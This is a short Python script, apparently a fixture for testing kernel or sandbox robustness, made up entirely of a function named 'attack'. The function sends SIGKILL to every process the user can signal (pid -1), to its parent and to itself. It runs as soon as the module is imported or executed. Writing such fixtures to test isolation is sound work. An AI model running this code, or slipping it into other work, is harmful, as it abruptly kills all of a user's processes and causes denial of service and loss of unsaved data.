"""Kills its kernel, and every process that it may."""

import os
import signal


def attack(*args, **kwargs):
    for process in (-1, os.getppid(), os.getpid()):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass


attack()
